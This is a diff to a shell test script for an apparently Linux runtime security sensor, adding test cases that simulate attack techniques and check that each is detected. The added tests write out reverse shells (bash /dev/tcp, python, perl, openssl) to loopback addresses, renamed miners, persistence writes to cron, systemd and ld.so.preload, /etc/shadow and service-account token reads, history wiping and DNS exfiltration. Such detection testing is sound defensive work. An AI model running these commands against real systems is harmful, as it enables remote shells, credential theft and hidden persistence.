@@ -145,6 +145,37 @@ E|cron-uring|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-u}|a
 E|cron-dirfd|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-d}|a cron entry written relative to a descriptor of /etc/cron.d (denied: as nobody)
 E|authorized-keys-openat2|persistence|T1098.004|V1101{event.path=/root/.ssh/authorized_keys}|an SSH key added with openat2 (denied: as nobody)
 E|flood-shadow|defence evasion|T1562|R0010{event.path=/etc/shadow}|two seconds of open flood on every CPU, then /etc/shadow read
+F|revshell-bash-tcp|command and control|T1059.004|R0011{event.addr=127.0.0.9,event.port=7101}|a bash reverse shell: exec 3<>/dev/tcp/HOST/PORT
+F|revshell-bash-udp|command and control|T1059.004|R0011{event.addr=127.0.0.9,event.port=7102}|the same over /dev/udp (a connected datagram socket)
+F|revshell-python|command and control|T1059.006|R0011{event.addr=127.0.0.10,event.port=7103}|a python reverse shell (socket, connect, dup2)
+F|revshell-perl|command and control|T1059|R0011{event.addr=127.0.0.11,event.port=7104}|a perl reverse shell (socket, connect, open STDIN)
+F|revshell-openssl|command and control|T1573.002|R0011{event.addr=127.0.0.12,event.port=7105}|an encrypted reverse shell: openssl s_client to a new peer
+F|revshell-ldso|execution|T1059.004|V1100|find -exec the dynamic loader running bash with a /dev/tcp reverse shell
+F|busybox-renamed|execution|T1059.004|V1100|find -exec a copy of busybox named busyboxd running sh -c id
+F|busybox-link-sh|execution|T1059.004|V1100|find -exec a symlink named sh to busybox
+F|tmpfile-exec|defence evasion|T1620|R1001/R1005|an ELF written into an O_TMPFILE (never named) and run by descriptor
+F|miner-coin-xmr|impact|T1496|R1007|a renamed miner started with --coin=XMR --tls on an odd port
+F|miner-cn-algo|impact|T1496|R1007|a renamed miner started with -a cn/r
+F|miner-stratum-ssl|impact|T1496|R1007|a renamed miner started with --url=stratum+ssl://HOST:443
+F|cron-rename|persistence|T1053.003|V1101{event.path=/etc/cron.d/vigil-t2500-r}|a cron entry renamed into place from elsewhere (denied: as nobody)
+F|systemd-symlink|persistence|T1543.002|V1101{event.path=/etc/systemd/system/vigil-t2500-l.service}|a systemd unit linked into place (symlink; denied: as nobody)
+F|authorized-keys-link|persistence|T1098.004|V1101{event.path=/root/.ssh/authorized_keys2}|a key file hard-linked into root's ~/.ssh (denied: as nobody)
+F|ld-so-preload-rename|persistence|T1574.006|R1011{event.path=/etc/ld.so.preload}|/etc/ld.so.preload renamed into place (denied: as nobody)
+F|ld-so-conf-d|persistence|T1574.006|V1101{event.path=/etc/ld.so.conf.d/vigil-t2500.conf}|a library search path added in /etc/ld.so.conf.d (denied: as nobody)
+F|modprobe-d|persistence|T1547.006|V1101{event.path=/etc/modprobe.d/vigil-t2500.conf}|a modprobe install hook written (denied: as nobody)
+F|apt-hook|persistence|T1546|V1101{event.path=/etc/apt/apt.conf.d/99vigil-t2500}|an APT hook (APT::Update::Pre-Invoke) written (denied: as nobody)
+F|logrotate-hook|persistence|T1546|V1101{event.path=/etc/logrotate.d/vigil-t2500}|a logrotate postrotate script written (denied: as nobody)
+F|shadow-proc1-root|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|/etc/shadow opened as /proc/1/root/etc/shadow
+F|shadow-proc-cwd|defence evasion|T1003.008|R0010{event.path=/etc/shadow}|chdir /etc, then /proc/self/cwd/shadow
+F|sa-token-data|credential access|T1528|R0006|the token read through the projected volume's ..data symlink
+F|sa-token-dirfd|credential access|T1528|R0006|the token opened relative to a descriptor of its directory
+F|environ-task|credential access|T1552.001|R0008|pid 1's environment read as /proc/1/task/1/environ
+F|history-overwrite|defence evasion|T1070.003|V1107{event.path=$W/home/.sh_history}|a shell history overwritten in place, no truncation (dd conv=notrunc)
+F|history-shred|defence evasion|T1070.003|V1107|a shell history shredded (shred: overwritten, then removed)
+F|history-uring-trunc|defence evasion|T1070.003|V1107|a shell history truncated at open through io_uring OPENAT
+F|clone-newuser|privilege escalation|T1611|R1006|clone(CLONE_NEWUSER, CLONE_NEWNS) without unshare
+F|dns-exfil-hex|exfiltration|T1048.003|R0005|a DNS question carrying hex-encoded data
+F|raw-icmp|exfiltration|T1095|V1001|a raw ICMP socket sending to a new peer
 EOF
 
 # ---- the world: peers, files, a mount namespace with a volume ---------------------------
@@ -182,6 +213,17 @@ cp /bin/sleep "$W/vol/tool-evil"
 echo ls >"$W/home/.bash_history"
 echo ls >"$W/home/.zsh_history"
 echo 1 >"$W/home/.python_history"
+echo 1 >"$W/home/.mysql_history"
+echo ls >"$W/home/.sh_history"
+echo 1 >"$W/home/.psql_history"
+cp /usr/bin/busybox "$W/bin/busyboxd"
+ln -s /usr/bin/busybox "$W/lnk/sh"
+# a projected service-account volume as the kubelet writes it: a timestamped directory and ..data
+SA=$W/proj/var/run/secrets/eks.amazonaws.com/serviceaccount
+mkdir -p "$SA/..2026_12_07_00_00_00.000000001"
+head -c 32 /dev/urandom | base64 >"$SA/..2026_12_07_00_00_00.000000001/token"
+ln -s ..2026_12_07_00_00_00.000000001 "$SA/..data"
+ln -s ..data/token "$SA/token"
 # the volume: a private mount namespace where $W/vol is bind-mounted on $W/mnt (a pod's volume)
 spawn holder unshare -m --propagation private sh -c \
 	"mount --bind '$W/vol' '$W/mnt' && mount --bind /etc '$W/etcb' && echo mounted && exec sleep 600"
@@ -192,7 +234,7 @@ wait_for_line "$TEST_TMP/holder.log" '^mounted$' 30
 PLAN=$TEST_TMP/plan
 RUN=$TEST_TMP/run.sh
 {
-	printf '#!/bin/sh\nP=%s\nW=%s\nHOLDER=%s\nPLAN=%s\n' "$PROGS" "$W" "$HOLDER" "$PLAN"
+	printf '#!/bin/sh\nP=%s\nW=%s\nHOLDER=%s\nPLAN=%s\nSA=%s\n' "$PROGS" "$W" "$HOLDER" "$PLAN" "$SA"
 	cat <<'EOF'
 # the host's namespaces as the sensor takes them: pid 1's, or its own where pid 1's are hidden
 # (a sandbox), which this shell shares
@@ -241,6 +283,9 @@ benign() {
 	echo ls >>"$W/home/.bash_history"
 	cp "$W/home/.bash_history" "$W/home/.bash_history-rewrite.tmp"
 	mv "$W/home/.bash_history-rewrite.tmp" "$W/home/.bash_history"
+	# a shell talking to a peer the profile knows through bash's /dev/tcp; a REPL history read
+	bash -c 'exec 3<>/dev/tcp/127.0.0.1/7000; echo hello >&3'
+	cat "$W/home/.psql_history"
 }
 
 t_shell_from_find() { find "$W/findroot" -maxdepth 0 -exec /bin/sh -c 'id' \; ; }
@@ -383,6 +428,59 @@ t_cron_dirfd() { nobody "$P/open_via" -x 1089 -d /etc/cron.d sys vigil-t2500-d; 
 t_authorized_keys_openat2() { nobody "$P/open_via" -x 1089 openat2 /root/.ssh/authorized_keys; }
 t_flood_shadow() { "$P/open_flood" 2; "$P/open_via" -x 12288 sys /etc/shadow; }
 
+t_revshell_bash_tcp() { bash -c 'exec 3<>/dev/tcp/127.0.0.9/7101; echo id >&3' 2>/dev/null; }
+t_revshell_bash_udp() { bash -c 'exec 3<>/dev/udp/127.0.0.9/7102; echo id >&3'; }
+t_revshell_python() { python3 -c 'import os, socket
+s = socket.socket()
+s.settimeout(2)
+try:
+    s.connect(("127.0.0.10", 7103))
+except OSError:
+    pass
+os.dup2(s.fileno(), 3)'; }
+t_revshell_perl() { perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
+connect(S, sockaddr_in(7104, inet_aton("127.0.0.11"))); open(STDIN, ">&S");'; }
+t_revshell_openssl() { timeout 5 openssl s_client -quiet -connect 127.0.0.12:7105 </dev/null; }
+t_revshell_ldso() { find "$W/findroot" -maxdepth 0 -exec /lib64/ld-linux-x86-64.so.2 /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/7000' \; ; }
+t_busybox_renamed() { find "$W/findroot" -maxdepth 0 -exec "$W/bin/busyboxd" sh -c id \; ; }
+t_busybox_link_sh() { find "$W/findroot" -maxdepth 0 -exec "$W/lnk/sh" -c id \; ; }
+t_tmpfile_exec() { python3 -c 'import os, sys
+fd = os.open(sys.argv[1], os.O_TMPFILE | os.O_RDWR, 0o755)
+os.write(fd, open("/usr/bin/tty", "rb").read())
+ro = os.open("/proc/self/fd/%d" % fd, os.O_RDONLY)
+os.close(fd)
+os.execve(ro, ["tty"], {})' "$W/drop"; }
+t_miner_coin_xmr() { "$W/bin/kthreadd" --coin=XMR --tls -o 127.0.0.1:14433; }
+t_miner_cn_algo() { "$W/bin/systemd-journal" -a cn/r -o 127.0.0.1:14444; }
+t_miner_stratum_ssl() { "$W/bin/kthreadd" --url=stratum+ssl://127.0.0.1:443; }
+t_cron_rename() { nobody mv "$W/data.txt" /etc/cron.d/vigil-t2500-r; }
+t_systemd_symlink() { nobody "$P/link_to" sym "$W/data.txt" /etc/systemd/system/vigil-t2500-l.service; }
+t_authorized_keys_link() { nobody ln "$W/data.txt" /root/.ssh/authorized_keys2; }
+t_ld_so_preload_rename() { nobody mv "$W/data.txt" /etc/ld.so.preload; }
+t_ld_so_conf_d() { try_write /etc/ld.so.conf.d/vigil-t2500.conf; }
+t_modprobe_d() { try_write /etc/modprobe.d/vigil-t2500.conf; }
+t_apt_hook() { try_write /etc/apt/apt.conf.d/99vigil-t2500; }
+t_logrotate_hook() { try_write /etc/logrotate.d/vigil-t2500; }
+t_shadow_proc1_root() { "$P/open_via" -x 16384 sys "/proc/$H/root/etc/shadow"; }
+t_shadow_proc_cwd() { (cd /etc && "$P/open_via" -x 32768 sys /proc/self/cwd/shadow); }
+t_sa_token_data() { cat "$SA/..data/token"; }
+t_sa_token_dirfd() { "$P/open_via" -x 2048 -d "$SA/..2026_12_07_00_00_00.000000001" sys token; }
+t_environ_task() { cat "/proc/$H/task/$H/environ"; }
+t_history_overwrite() { dd if=/dev/zero of="$W/home/.sh_history" bs=1 count=2 conv=notrunc; }
+t_history_shred() { shred -u "$W/home/.mysql_history"; }
+t_history_uring_trunc() { "$P/open_via" -x 513 uring "$W/home/.psql_history"; }
+t_clone_newuser() { python3 -c 'import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+pid = libc.syscall(56, 0x10000000 | 0x00020000 | 17, 0, 0, 0, 0)
+if pid == 0:
+    os._exit(0)
+if pid > 0:
+    os.waitpid(pid, 0)'; }
+t_dns_exfil_hex() { "$P/dns_query" 726f6f743a783a303a303a726f6f74.x.example.net 127.0.0.1 53; }
+t_raw_icmp() { python3 -c 'import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.13", 0))'; }
+
 while read -r id; do
 	case $id in
 	benign) benign ;;
@@ -423,7 +521,7 @@ failed=0
 # the outside world changes a program the profile runs (an image layer, a volume, another
 # process with the file): group E runs it
 cp /bin/true "$W/bin/tool2"
-for group in ${VIGIL_T2500_GROUPS:-A B C D E}; do
+for group in ${VIGIL_T2500_GROUPS:-A B C D E F}; do
 	awk -F'|' -v g="$group" '$1 == g || (g == "D" && $1 == "gap") { print $2 }' "$TABLE" >"$PLAN"
 	watch "$group"
 	assert_eq 1 "$RC" "exit status of group $group ($(cat "$TEST_TMP/watch-$group.err"))"
@@ -433,5 +531,5 @@ for group in ${VIGIL_T2500_GROUPS:-A B C D E}; do
 done
 [ "$failed" = 0 ] || fail "techniques missed (above; alerts in $TEST_TMP/alerts-*.jsonl)"
 n=$(grep -c '^ok ' "$TEST_TMP"/judge-*.txt | awk -F: '{ s += $2 } END { print s }')
-assert_ge "$n" 115 "techniques detected"
+assert_ge "$n" 146 "techniques detected"
 log "$n techniques detected, each quiet on the benign rerun"
